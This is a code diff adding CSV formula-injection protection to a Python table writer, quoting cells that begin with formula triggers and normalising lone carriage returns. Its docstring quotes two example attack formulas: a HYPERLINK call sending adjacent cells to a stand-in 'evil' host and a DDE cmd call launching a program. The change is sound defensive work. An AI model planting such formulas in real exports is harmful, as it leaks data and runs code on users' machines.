@@ -2,7 +2,8 @@
 
 One writer for the CLI and the API: rows are plain dicts of str/int/float/None, the
 shape :mod:`geo.quota.queries` returns. ``table`` is a text table for a terminal
-(rich is imported only for it).
+(rich is imported only for it). Text in a CSV cell goes through :func:`csv_cell` first, so a
+spreadsheet reads it as text, never as a formula.
 """
 
 from __future__ import annotations
@@ -10,6 +11,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from collections.abc import Iterable, Mapping, Sequence
 from typing import Any, Final, Literal, TextIO, get_args
 
@@ -25,6 +27,10 @@ MEDIA_TYPES: Final[dict[TableFormat, str]] = {
 
 Row = Mapping[str, Any]
 
+# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV Injection")
+FORMULA_TRIGGERS: Final[tuple[str, ...]] = ("=", "+", "-", "@", "\t", "\r")
+_LONE_CR: Final = re.compile(r"\r(?!\n)")
+
 
 def table_format(fmt: str) -> TableFormat:
     """``fmt`` if it is a table format; else a FormatError listing the valid ones."""
@@ -34,6 +40,27 @@ def table_format(fmt: str) -> TableFormat:
             f"未知格式 {fmt!r}，可用：{'、'.join(TABLE_FORMATS)}",
         )
     return fmt
+
+
+def csv_cell(value: Any) -> Any:
+    r"""``value`` as a CSV field a spreadsheet shows as text: text starting with ``= + - @``, TAB or CR gets a
+    leading ``'``, and a lone CR inside text becomes LF; anything else, numbers included, is returned unchanged.
+
+    Why: Excel and LibreOffice evaluate such a field as a formula when the CSV is opened (it comes with a BOM
+    precisely so that Excel opens it), and parcel ids and names, a disposal's 文号 and a ledger's 事由 are typed
+    by users: ``=HYPERLINK("http://evil/?"&A3,"详情")`` would send the neighbouring cells away and
+    ``=cmd|' /C calc'!A0`` would start a program. The quote is OWASP's remedy: the cell shows the text, quote
+    included, and nothing runs. Only ``str`` is touched: a negative number stays a number (``-3.5``, a float, is
+    written as ``-3.5``), while the text ``"-3.5"`` becomes ``'-3.5``, since a user could type ``-1+A1`` as well.
+
+    The lone CR: our writers end rows with ``\n``, and Python's ``csv`` (3.11) quotes a field only for the
+    characters of that terminator, so ``"x\r=cmd|…"`` went out unquoted and a spreadsheet, which ends a row at a
+    bare CR too, would start a new row with the formula. As LF the field is quoted (RFC 4180) and stays one cell.
+    """
+    if not isinstance(value, str):
+        return value
+    text = _LONE_CR.sub("\n", value)
+    return "'" + text if value.startswith(FORMULA_TRIGGERS) else text
 
 
 def _columns(rows: Sequence[Row], columns: Sequence[str] | None) -> list[str]:
@@ -77,7 +104,7 @@ def write_table(
         if names:
             writer = csv.DictWriter(out, fieldnames=names, extrasaction="ignore", lineterminator="\n")
             writer.writeheader()
-            writer.writerows(rows)
+            writer.writerows({key: csv_cell(value) for key, value in row.items()} for row in rows)
         return
     from rich.console import Console
     from rich.table import Table
